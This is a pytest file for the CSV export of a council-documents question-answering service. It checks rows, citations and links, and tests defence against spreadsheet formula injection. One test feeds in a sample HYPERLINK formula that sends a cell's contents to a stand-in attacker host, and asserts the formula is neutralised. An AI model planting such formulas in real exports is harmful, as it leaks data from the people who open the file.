"""Export: CSV from every result list, parsed back, and safe to open in a spreadsheet."""

from __future__ import annotations

import codecs
import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from index.embedder import HashingEmbedder
from qa_service.api.main import create_app
from qa_service.config import Settings
from qa_service.export import COLUMNS, csv_response, safe_cell, to_csv
from qa_service.schemas.asking import AskResponse


@pytest.fixture
def client(small_index: Path) -> Iterator[TestClient]:
    with TestClient(create_app(Settings(index=small_index), HashingEmbedder())) as c:
        yield c


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("  =1+1", "'  =1+1"),
        ("Resolved = noted", "Resolved = noted"),
        ("", ""),
        (None, ""),
        (-0.25, -0.25),
        (3, 3),
    ],
)
def test_cells_that_a_spreadsheet_would_run_are_quoted(value: object, shown: object) -> None:
    assert safe_cell(value) == shown


def test_csv_round_trips_awkward_text() -> None:
    text = 'Line one, with "quotes"\nline two; £50k – café'
    parsed = list(csv.DictReader(io.StringIO(to_csv([{"text": text, "rank": 1}]))))
    assert len(parsed) == 1
    assert parsed[0]["text"] == text and parsed[0]["rank"] == "1" and parsed[0]["council"] == ""
    assert list(parsed[0]) == list(COLUMNS)


def _csv(response: object) -> list[dict[str, str]]:
    r = response
    assert r.status_code == 200, r.text  # type: ignore[attr-defined]
    assert r.headers["content-type"] == "text/csv; charset=utf-8"  # type: ignore[attr-defined]
    disposition = r.headers["content-disposition"]  # type: ignore[attr-defined]
    assert disposition.startswith('attachment; filename="') and disposition.endswith('.csv"')
    body: bytes = r.content  # type: ignore[attr-defined]
    assert body.startswith(codecs.BOM_UTF8)  # Excel reads UTF-8 only with it
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def test_ask_as_csv_has_a_row_per_passage_with_its_citation(client: TestClient) -> None:
    body = {"question": "children missing from care", "top_k": 4}
    as_json = client.post("/api/ask", json=body).json()
    assert client.post("/api/ask?format=json", json=body).json() == as_json
    rows = _csv(client.post("/api/ask?format=csv", json=body))
    assert len(rows) == len(as_json["passages"]) == 4
    for row, p in zip(rows, as_json["passages"], strict=True):
        c = p["citation"]
        assert row["passage_id"] == p["passage_id"] and row["rank"] == str(p["rank"])
        assert float(row["score"]) == p["score"]
        assert (row["council"], row["document_id"], row["source"]) == (
            c["council"], c["document_id"], c["source"],
        )  # fmt: skip
        assert row["meeting_date"] == (c["meeting_date"] or "")
        assert row["page"] == ("" if c["page"] is None else str(c["page"]))
        assert row["text"].removeprefix("'") == p["text"]


def test_decisions_timeline_and_compare_as_csv(client: TestClient) -> None:
    q = "children missing from care"
    decisions = client.get("/api/decisions", params={"q": q}).json()["decisions"]
    rows = _csv(client.get("/api/decisions", params={"q": q, "format": "csv"}))
    assert len(rows) == len(decisions) > 0
    assert all(r["decision_kind"] in ("resolution", "recommendation") for r in rows)
    # each row is headed by the agenda item the decision settles, as the API gives it
    for row, d in zip(rows, decisions, strict=True):
        assert d["subject"] and d["subject"] in row["heading"]
        assert row["heading"].startswith(f"Item {d['item']}: ") if d["item"] else True

    years = client.get("/api/timeline", params={"q": q, "limit": 6}).json()["years"]
    rows = _csv(client.get("/api/timeline", params={"q": q, "limit": 6, "format": "csv"}))
    assert [r["group"] for r in rows] == [
        str(y["year"]) if y["year"] is not None else "" for y in years for _ in y["passages"]
    ]

    body = {"question": q, "per_council": 2}
    columns = client.post("/api/compare", json=body).json()["councils"]
    rows = _csv(client.post("/api/compare?format=csv", json=body))
    expected = sum(len(c["passages"]) + (c["latest_decision"] is not None) for c in columns)
    assert len(rows) == expected
    assert {r["group"] for r in rows} == {c["council"] for c in columns}


def test_a_bad_format_gets_422(client: TestClient) -> None:
    r = client.get("/api/decisions", params={"format": "xlsx"})
    assert r.status_code == 422 and "format" in r.json()["detail"]


def test_ask_csv_carries_the_question_sentence_and_a_link_excel_can_open(
    client: TestClient,
) -> None:
    body = {"question": "children missing from care", "top_k": 3}
    passages = client.post("/api/ask", json=body).json()["passages"]
    rows = _csv(client.post("/api/ask?format=csv", json=body))
    assert [r["question"] for r in rows] == [body["question"]] * len(passages)
    for row, p in zip(rows, passages, strict=True):
        assert row["sentence"] and row["sentence"] in " ".join(p["text"].split())
        assert row["sentence"] == " … ".join(
            " ".join(p["text"][h["start"] : h["end"]].split()) for h in p["highlights"]
        )
        c = p["citation"]
        assert row["link"] == (
            f"http://testserver/documents/{c['document_id']}/passages/{p['passage_id']}"
        )
        assert client.get(row["link"], follow_redirects=False).status_code == 303
        assert row["source_url"] == (c["url"] or "")


def test_the_web_pages_csv_is_the_same_export(client: TestClient) -> None:
    q = "children missing from care"
    rows = _csv(client.get("/", params={"q": q, "format": "csv", "infer": "0"}))
    assert rows and all(r["question"] == q and r["link"].startswith("http://") for r in rows)
    rows = _csv(client.get("/compare", params={"q": q, "format": "csv"}))
    assert rows and all(r["question"] == q and r["group"] for r in rows)


def test_a_question_written_as_a_formula_is_neutralised(client: TestClient) -> None:
    q = '=HYPERLINK("http://evil.example/?"&A1, "children missing from care")'
    rows = _csv(client.post("/api/ask?format=csv", json={"question": q, "top_k": 2}))
    assert rows and all(r["question"] == "'" + q for r in rows)


def test_an_empty_answer_is_a_header_after_the_bom() -> None:
    r = csv_response(AskResponse(question="£5k?", answered=False, passages=[]), "answer")
    assert r.body.startswith(codecs.BOM_UTF8)
    assert r.body.decode("utf-8-sig").splitlines() == [",".join(COLUMNS)]
